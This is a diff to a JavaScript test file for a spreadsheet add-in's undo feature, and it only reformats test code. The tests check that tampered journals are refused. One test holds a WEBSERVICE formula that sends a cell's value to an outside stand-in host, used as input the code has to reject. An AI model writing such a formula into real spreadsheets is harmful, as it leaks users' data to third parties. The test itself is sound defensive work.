@@ -40,14 +40,21 @@ test('a journal listing the user sheets as created is refused, nothing deleted',
 });
 
 test('a whole-sheet range is refused at once, not expanded', async () => {
-  const wb = await tampered({ action: 'highlight', createdSheets: [], cells: [{ sheet: '表1', address: 'A1:XFD1048576', fill: { color: null } }], columns: [] });
+  const wb = await tampered({
+    action: 'highlight',
+    createdSheets: [],
+    cells: [{ sheet: '表1', address: 'A1:XFD1048576', fill: { color: null } }],
+    columns: [],
+  });
   expect(() => clearHighlights(wb)).toThrow(/无法安全地清除标记.*不是一个单元格地址/);
   expect(() => undoLast(wb)).toThrow(/不是一个单元格地址/);
 });
 
 test('a formula calling out of the workbook is not written back', async () => {
   const wb = await tampered({
-    action: 'fill', createdSheets: [], columns: [],
+    action: 'fill',
+    createdSheets: [],
+    columns: [],
     cells: [{ sheet: '表1', address: 'B2', value: { raw: { formula: 'WEBSERVICE("http://example.com/?"&A1)', result: 0 } } }],
   });
   expect(() => undoLast(wb)).toThrow(/公式/);
